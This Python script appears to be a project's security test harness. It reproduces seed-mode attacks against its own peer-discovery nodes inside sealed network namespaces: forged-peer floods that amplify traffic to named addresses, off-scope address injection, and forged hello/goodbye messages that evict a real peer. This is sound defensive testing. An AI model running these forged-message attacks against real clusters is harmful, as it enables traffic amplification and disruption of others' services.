#!/usr/bin/env python3
"""The seed-mode attacks of issue 20 (A and B) against real nodes, inside a network namespace of their own.

Creates a namespace holding `lo` and `net0` (10.77.0.1/24 for the nodes, 10.77.0.9/24 for the attacker, 10.78.0.1/16
a network of unused addresses), a veth whose other end sits alone in a second namespace, the default gateway
10.77.0.254, which drops everything: nothing leaves the machine, and every datagram a node sends to an address that is
not its own host's is captured where it arrives, at the sink (IPv4 UDP only, by destination).
Runs, each against a fresh victim node (dev.discovery.NodeProcessMain, seeds = itself):

  budget K    K attacker sockets on 10.77.0.9, each saying hello with its own id, answering every challenge and
              naming 32 fresh addresses of 10.78.0.0/16 per second, for 12 s (K = 1, 20, 100): the victim's datagrams
              to those addresses per second, and the ratio to the attacker's;
  scope       2 attacker sockets naming broadcast, multicast, unspecified and off-network addresses for 12 s: the
              victim's datagrams that left through net0 (loopback ones are not counted: the attacker is local too);
  hijack      a real peer joins through the victim; 10 times a forged hello with the peer's id from an attacker socket,
              then a forged goodbye from the same socket: how many times the victim removed the peer.

    ./mvnw -B -q -o -pl discovery-core -am test -Dtest='SeedModeTest' -Dsurefire.failIfNoSpecifiedTests=false
    sudo python3 scripts/hostile/seeds.py            # root: it creates (and always deletes) the namespace

The classpath is read from the surefire report of that test run. Python 3 standard library only.
"""
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time

NS = f"hostile-seeds-{os.getpid()}"
HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
VICTIM, ATTACKER = "10.77.0.1", "10.77.0.9"
OFF_SCOPE = ["255.255.255.255", "10.77.0.255", "10.78.255.255", "224.0.0.1", "0.0.0.0", "8.8.8.8", "192.0.2.7",
             "169.254.3.4", "10.99.1.2", "127.255.255.255", "127.0.0.1"]


def classpath():
    report = os.path.join(ROOT, "discovery-core/target/surefire-reports/TEST-dev.discovery.SeedModeTest.xml")
    with open(report) as f:
        return re.search(r'name="surefire.test.class.path" value="([^"]*)"', f.read()).group(1)


def ip(*args):
    subprocess.run(["ip", *args], check=True)


CAPTURE = None  # the file the capture in the sink namespace writes: one line per UDP datagram, its destination
NODES = []  # every node process started, killed at the end whatever happened


def capture(path):
    """In the sink namespace: every IPv4 UDP datagram arriving at sink0, one destination address a line."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind(("sink0", 0))
    with open(path, "a", buffering=1) as out:
        while True:
            frame = s.recv(65535)
            if frame[12:14] == b"\x08\x00" and frame[23] == 17:  # IPv4, UDP
                out.write(socket.inet_ntoa(frame[30:34]) + "\n")


def captured():
    """Destinations of every datagram the nodes sent off their host so far."""
    with open(CAPTURE) as f:
        return f.read().split()


class Node:
    """A NodeProcessMain in this namespace; its event lines are collected."""

    def __init__(self, cp, port, seed):
        self.process = subprocess.Popen(
            ["java", "-Xmx128m", "-cp", cp, "dev.discovery.NodeProcessMain", str(port), f"seeds={seed}", "1"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        NODES.append(self.process)
        self.lines = []
        threading.Thread(target=self._read, daemon=True).start()
        self.id = self.wait(r"started (\S+)", 120).group(1)

    def _read(self):
        for line in self.process.stdout:
            self.lines.append(line.split(" ", 1)[1].strip())

    def wait(self, pattern, limit):
        deadline = time.time() + limit
        while time.time() < deadline:
            for line in list(self.lines):
                match = re.fullmatch(pattern, line)
                if match:
                    return match
            time.sleep(0.05)
        raise TimeoutError(f"no line {pattern} within {limit} s: {self.lines[-5:]}")

    def stop(self):
        try:
            self.process.stdin.write("stop\n")
            self.process.stdin.flush()
            self.process.wait(20)
        except Exception:
            self.process.kill()


class Attacker:
    """K sockets on the attacker's address posing as K peers of the victim."""

    def __init__(self, count, victim, names):
        self.victim, self.names, self.sent, self.named = victim, names, 0, 0
        self.sockets = []
        for k in range(count):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((ATTACKER, 20000 + k))
            s.setblocking(False)
            self.sockets.append(s)

    def send(self, k, event, data, iid=None):
        body = {"event": event, "pid": "attacker", "iid": iid or f"attacker-{k}", "hostName": "attacker", "data": data}
        self.sockets[k].sendto(json.dumps(body).encode(), self.victim)
        self.sent += 1

    def fresh(self):
        names = []
        for _ in range(32):
            names.append(self.names(self.named) + ":12345")
            self.named += 1
        return names

    def tick(self):
        for k in range(len(self.sockets)):
            self.send(k, "hello", {"isMaster": False, "isMasterEligible": False, "weight": -1})
            self.send(k, "discovery:peers", {"peers": self.fresh()})

    def answer(self, until):
        """Echoes every challenge until the given time."""
        while time.time() < until:
            for k, s in enumerate(self.sockets):
                try:
                    while True:
                        data, _ = s.recvfrom(65535)
                        message = json.loads(data)
                        token = message.get("data", {}).get("token") if message.get("event") == "discovery:peers" else None
                        if token:
                            self.send(k, "discovery:peers", {"echo": token, "peers": self.fresh()})
                except (BlockingIOError, ValueError, AttributeError):
                    pass
            time.sleep(0.005)

    def close(self):
        for s in self.sockets:
            s.close()


def flood(cp, count, names, seconds=12):
    victim = Node(cp, 12345, f"{VICTIM}:12345")
    attacker = Attacker(count, (VICTIM, 12345), names)
    before = len(captured())
    start = time.time()
    for second in range(seconds):
        attacker.tick()
        attacker.answer(start + second + 1)
    time.sleep(0.5)
    sent_out = captured()[before:]
    attacker.close()
    victim.stop()
    return len(sent_out), attacker.sent, seconds, sorted(set(sent_out))


def hijack(cp, tries=10):
    victim = Node(cp, 12345, f"{VICTIM}:12345")
    peer = Node(cp, 12346, f"{VICTIM}:12345")
    victim.wait(rf"added {re.escape(peer.id)} \S+", 60)
    attacker = Attacker(1, (VICTIM, 12345), lambda n: "")
    for _ in range(tries):
        attacker.send(0, "hello", {"isMaster": True, "isMasterEligible": True, "weight": 9}, iid=peer.id)
        attacker.send(0, "discovery:goodbye", {"reason": "stopped"}, iid=peer.id)
        time.sleep(1)
    removals = sum(1 for line in victim.lines if line.startswith(f"removed {peer.id}"))
    attacker.close()
    peer.stop()
    victim.stop()
    return removals


def inside():
    try:
        attacks()
    finally:
        for process in NODES:
            if process.poll() is None:
                process.kill()


def attacks():
    global CAPTURE
    CAPTURE = sys.argv[2]
    cp = classpath()
    print("Loaded machine: other builds share its 2 cores; figures are per wall-clock second.")
    for k in (1, 20, 100):
        out, spent, seconds, _ = flood(cp, k, lambda n: f"10.78.{1 + n // 250}.{1 + n % 250}")
        print(f"budget K={k}: victim sent {out} datagrams to learned addresses ({out / seconds:.1f}/s), "
              f"attacker {spent} ({spent / seconds:.1f}/s), ratio {out / spent:.2f}")
    out, spent, _, where = flood(cp, 2, lambda n: OFF_SCOPE[n % len(OFF_SCOPE)])
    print(f"scope: victim sent {out} datagrams off its host {where} for {len(OFF_SCOPE)} off-scope addresses "
          f"named over and over (attacker {spent} datagrams); loopback ones are not seen here")
    print(f"hijack: forged hello + goodbye removed the real peer {hijack(cp)} of 10 times")


def main():
    if len(sys.argv) > 1 and sys.argv[1] == "--inside":
        inside()
        return
    if len(sys.argv) > 1 and sys.argv[1] == "--capture":
        capture(sys.argv[2])
        return
    sink = NS + "-sink"
    ip("netns", "add", NS)
    ip("netns", "add", sink)
    try:
        ip("-n", NS, "link", "set", "lo", "up")
        ip("-n", NS, "link", "add", "net0", "type", "veth", "peer", "name", "sink0", "netns", sink)
        # No IPv6 on net0: its router solicitations would be counted with the datagrams.
        ip("netns", "exec", NS, "sysctl", "-q", "-w", "net.ipv6.conf.net0.disable_ipv6=1")
        ip("-n", NS, "link", "set", "net0", "up")
        ip("-n", sink, "addr", "add", "10.77.0.254/24", "dev", "sink0")
        ip("-n", sink, "link", "set", "sink0", "up")
        ip("-n", NS, "addr", "add", "10.77.0.1/24", "dev", "net0")
        ip("-n", NS, "addr", "add", "10.77.0.9/24", "dev", "net0")
        # The node's own network, without an on-link route: its addresses go to the sink's gateway, no ARP each.
        ip("-n", NS, "addr", "add", "10.78.0.1/16", "dev", "net0", "noprefixroute")
        ip("-n", NS, "route", "add", "default", "via", "10.77.0.254")
        path = f"/tmp/{NS}.capture"
        open(path, "w").close()
        sniffer = subprocess.Popen(["ip", "netns", "exec", sink, sys.executable, os.path.abspath(__file__),
                                    "--capture", path])
        try:
            time.sleep(1)
            subprocess.run(["ip", "netns", "exec", NS, sys.executable, os.path.abspath(__file__), "--inside", path],
                           check=True)
        finally:
            sniffer.kill()
            sniffer.wait()
            os.remove(path)
    finally:
        subprocess.run(["ip", "netns", "del", NS])
        subprocess.run(["ip", "netns", "del", sink])


if __name__ == "__main__":
    main()
